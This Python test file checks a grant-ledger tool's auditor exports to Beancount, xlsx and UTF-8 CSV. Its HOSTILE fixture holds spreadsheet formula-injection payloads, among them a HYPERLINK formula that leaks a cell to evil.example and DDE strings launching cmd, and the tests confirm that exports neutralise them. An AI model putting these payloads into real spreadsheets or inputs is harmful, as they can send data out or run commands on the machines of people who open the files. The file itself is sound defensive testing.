"""Exports for auditors: the Beancount ledger passes bean-check and its balances are the
report's; the xlsx opens with openpyxl and sums to the reports; the CSV is UTF-8 with BOM."""

from __future__ import annotations

import csv
import subprocess
import sys
import time
from datetime import UTC, datetime
from decimal import Decimal
from importlib import resources
from pathlib import Path

import pytest

from tests.conftest import USCC_A, new_ledger
from tests.helpers import cli, cli_json, write_lines

BEAN_CHECK = str(Path(sys.executable).with_name("bean-check"))
DEMO = resources.files("commands").joinpath("demo.jsonl")


@pytest.fixture
def demo(tmp_path) -> str:
    url = new_ledger(tmp_path, "demo.db")
    path = tmp_path / "demo.jsonl"
    path.write_bytes(DEMO.read_bytes())
    assert cli(url, "import", str(path)).exit_code in (0, 1)  # the demo refuses some lines on purpose
    return url


def _yuan(fen: int) -> Decimal:
    return Decimal(fen) / 100


@pytest.mark.parametrize("as_of", [None, "2023-12-31"])
def test_the_beancount_export_passes_bean_check_and_its_balances_are_report_shares(demo, tmp_path, as_of):
    cut = ("--as-of", as_of) if as_of else ()
    out = tmp_path / "ledger.beancount"
    assert cli(demo, "export", "beancount", str(out), *cut).exit_code == 0
    check = subprocess.run([BEAN_CHECK, str(out)], capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr

    from beancount import loader
    from beancount.core import realization

    entries, errors, _ = loader.load_file(str(out))
    assert not errors
    real = realization.realize(entries)
    shares = cli_json(demo, "report", "shares", *cut)

    def units(inventory) -> Decimal:
        return sum((p.units.number for p in inventory if p.units.currency == "CNY"), Decimal(0))

    def balance(account: str) -> Decimal:
        node = realization.get(real, account)
        return units(node.balance) if node is not None else Decimal(0)

    total = shares["total"]
    assert balance("Assets:Treasury:City") == -_yuan(total["city_paid_fen"])
    assert balance("Liabilities:Payable:City") == -_yuan(total["city_owed_fen"] - total["city_paid_fen"])
    expenses = realization.get(real, "Expenses:Grants")
    assert units(realization.compute_balance(expenses)) == _yuan(total["city_owed_fen"] + total["county_owed_fen"])


def test_bean_check_rejects_the_export_when_a_balance_is_not_the_reports(demo, tmp_path):
    out = tmp_path / "ledger.beancount"
    assert cli(demo, "export", "beancount", str(out)).exit_code == 0
    text = out.read_text(encoding="utf-8")
    line = next(x for x in text.splitlines() if " balance Assets:Treasury:City " in x)
    amount = line.split()[-2]
    assert Decimal(amount) != 0
    out.write_text(text.replace(line, line.replace(f" {amount} CNY", f" {Decimal(amount) + 1} CNY")), encoding="utf-8")
    assert subprocess.run([BEAN_CHECK, str(out)], capture_output=True).returncode != 0


def test_the_xlsx_opens_with_openpyxl_and_its_sums_equal_the_reports(demo, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "ledger.xlsx"
    assert cli(demo, "export", "xlsx", str(out)).exit_code == 0
    book = load_workbook(out)
    assert book.sheetnames == ["申请", "核定与撤销", "支付", "冲销", "追回", "分担", "其他政策奖励"]
    shares = cli_json(demo, "report", "shares")["total"]
    sheet = book["分担"]
    header = [c.value for c in sheet[1]]
    total_row = [c.value for c in sheet[sheet.max_row]]
    assert total_row[0] == "合计"
    assert Decimal(str(total_row[header.index("市级应付")])) == _yuan(shares["city_owed_fen"])
    assert sheet.cell(row=2, column=header.index("市级应付") + 1).number_format == "#,##0.00"
    paid = Decimal(0)
    for name in ("支付", "冲销", "追回"):
        rows = list(book[name].iter_rows(values_only=True))
        amount, payer = rows[0].index(next(h for h in rows[0] if h.startswith("金额"))), rows[0].index("付款方")
        paid += sum(Decimal(str(r[amount])) for r in rows[1:] if r[payer] == "county")
    assert paid == _yuan(shares["county_paid_fen"])
    applications = cli_json(demo, "report", "applications")["applications"]
    assert book["申请"].max_row - 1 == len(applications)


def test_csv_files_are_utf8_with_bom_and_chinese_headers(demo, tmp_path):
    out = tmp_path / "csv"
    assert cli(demo, "export", "csv", str(out)).exit_code == 0
    names = sorted(p.name for p in out.iterdir())
    assert names == sorted(f"{n}.csv" for n in ("applications", "decisions", "payments", "reversals", "recoveries",
                                               "shares", "external_awards"))
    raw = (out / "payments.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with (out / "payments.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert "统一社会信用代码" in rows[0] and "凭证号" in rows[0]
    paid = sum(Decimal(r["金额"]) for r in rows if r["付款方"] == "city")
    for name in ("reversals", "recoveries"):
        with (out / f"{name}.csv").open(encoding="utf-8-sig", newline="") as f:
            paid += sum(Decimal(r["金额(负数)"]) for r in csv.DictReader(f) if r["付款方"] == "city")
    assert paid == _yuan(cli_json(demo, "report", "shares")["total"]["city_paid_fen"])


def test_an_export_known_at_a_moment_equals_the_export_made_then(tmp_path):
    url = new_ledger(tmp_path, "l.db")
    facts = {"city_enterprises": 11, "annual_revenue_yuan": "500万", "contract_yuan": "10万"}
    lines = [{"op": "adopt-policy", "effective": "2022-09-01"},
             {"op": "register", "uscc": USCC_A, "name": "十堰安盾网络安全服务有限公司", "area": "张湾区"},
             {"op": "apply", "ref": "A-1", "uscc": USCC_A, "measure": "M03-security", "project": "P1",
              "date": "2023-01-10", "facts": facts},
             {"op": "approve", "ref": "A-1", "date": "2023-02-01"}]
    assert cli(url, "import", str(write_lines(tmp_path / "a.jsonl", lines))).exit_code == 0
    assert cli(url, "export", "csv", str(tmp_path / "then")).exit_code == 0
    moment = datetime.now(UTC)
    time.sleep(0.01)
    later = [{"op": "pay", "ref": "A-1", "payer": "city", "amount_fen": 500000, "voucher": "V-1",
              "date": "2023-03-01"}]
    assert cli(url, "import", str(write_lines(tmp_path / "b.jsonl", later))).exit_code == 0
    assert cli(url, "export", "csv", str(tmp_path / "known"), "--known-at", moment.isoformat()).exit_code == 0
    assert cli(url, "export", "csv", str(tmp_path / "now")).exit_code == 0
    for name in ("applications", "payments", "shares"):
        assert (tmp_path / "known" / f"{name}.csv").read_bytes() == (tmp_path / "then" / f"{name}.csv").read_bytes()
    assert (tmp_path / "now" / "payments.csv").read_bytes() != (tmp_path / "then" / "payments.csv").read_bytes()


HOSTILE_REF = '=HYPERLINK("http://evil.example/?leak="&A1,"A-1")'
HOSTILE = [
    {"op": "adopt-policy", "effective": "2022-09-01"},
    {"op": "register", "uscc": USCC_A, "name": "@SUM(1+1)*cmd|' /C calc'!A0", "area": "张湾区"},
    {"op": "apply", "ref": HOSTILE_REF, "uscc": USCC_A, "measure": "M03-security", "project": "+1+1",
     "date": "2023-01-10", "facts": {"city_enterprises": 11, "annual_revenue_yuan": "500万", "contract_yuan": "10万"}},
    {"op": "approve", "ref": HOSTILE_REF, "date": "2023-02-01"},
    {"op": "pay", "ref": HOSTILE_REF, "payer": "city", "amount_fen": 500000, "voucher": '=DDE("cmd";"/C calc";"x")',
     "date": "2023-03-01"},
    {"op": "reverse-payment", "ref": HOSTILE_REF, "payer": "city", "voucher": '=DDE("cmd";"/C calc";"x")',
     "date": "2023-03-02", "reason": "录错"},
    {"op": "pay", "ref": HOSTILE_REF, "payer": "county", "amount_fen": 500000, "voucher": "-2+3", "date": "2023-03-05"},
    {"op": "external-award", "uscc": USCC_A, "project": "@A1", "policy": "=1+2", "amount_fen": 100000,
     "date": "2023-01-20"},
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _hostile(db_url: str, tmp_path: Path) -> str:
    result = cli(db_url, "import", str(write_lines(tmp_path / "hostile.jsonl", HOSTILE)))
    assert result.exit_code == 0, result.stdout + result.stderr
    return db_url


def test_csv_text_cells_are_never_formulas_and_amounts_stay_numbers(db_url, tmp_path):
    url = _hostile(db_url, tmp_path)
    out = tmp_path / "csv"
    assert cli(url, "export", "csv", str(out)).exit_code == 0
    cells = []
    for name in ("applications", "decisions", "payments", "reversals", "recoveries", "shares", "external_awards"):
        with (out / f"{name}.csv").open(encoding="utf-8-sig", newline="") as f:
            cells += [(name, header, value) for row in csv.DictReader(f) for header, value in row.items()]
    for name, header, value in cells:
        if value.startswith(FORMULA_STARTS):  # only an amount, a plain number such as -5000.00
            assert Decimal(value) < 0, (name, header, value)
    values = {value for _, _, value in cells}
    assert {"'" + HOSTILE_REF, "'+1+1", "'=DDE(\"cmd\";\"/C calc\";\"x\")", "'-2+3", "'=1+2"} <= values
    with (out / "reversals.csv").open(encoding="utf-8-sig", newline="") as f:
        [reversal] = list(csv.DictReader(f))
    assert Decimal(reversal["金额(负数)"]) == Decimal("-5000.00")


def test_xlsx_cells_are_strings_or_numbers_never_formulas(db_url, tmp_path):
    from openpyxl import load_workbook

    url = _hostile(db_url, tmp_path)
    out = tmp_path / "ledger.xlsx"
    assert cli(url, "export", "xlsx", str(out)).exit_code == 0
    book = load_workbook(out)  # formulas are kept as formulas (data type "f") when reading without data_only
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for c in cells:
        assert c.data_type in ("s", "n"), (c.parent.title, c.coordinate, c.data_type)
        if isinstance(c.value, str):
            assert not c.value.startswith(FORMULA_STARTS), (c.parent.title, c.coordinate, c.value)
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {"'" + HOSTILE_REF, "'+1+1", "'=DDE(\"cmd\";\"/C calc\";\"x\")", "'-2+3", "'=1+2"} <= texts
    reversal = [[c.value for c in row] for row in book["冲销"].iter_rows()]
    amount = reversal[0].index("金额(负数)")
    assert reversal[1][amount] == -5000 and book["冲销"].cell(row=2, column=amount + 1).data_type == "n"


def test_beancount_books_every_owed_kind_as_a_decision_whatever_it_is_named(monkeypatch):
    """A new kind of owed entry (a re-decision raising an award) is booked like an award, against the grant
    expense and the two payables, never as a payment (the decisions table lists ``schema.OWED_KINDS`` too)."""
    from projections import exports, schema

    monkeypatch.setattr(schema, "OWED_KINDS", (*schema.OWED_KINDS, "raised"))
    entry = {"kind": "raised", "ref": "A-1", "uscc": USCC_A, "area": "张湾区", "measure": "M03-security",
             "date": datetime(2023, 4, 1, tzinfo=UTC).date(), "position": 9, "voucher": None, "payer": None,
             "amount_fen": 4000, "city_fen": 2000, "county_fen": 2000}
    assert exports.postings(entry) == [("Expenses:Grants:M03-security", 4000), ("Liabilities:Payable:City", -2000),
                        ("Liabilities:Payable:County:Zhangwan", -2000)]
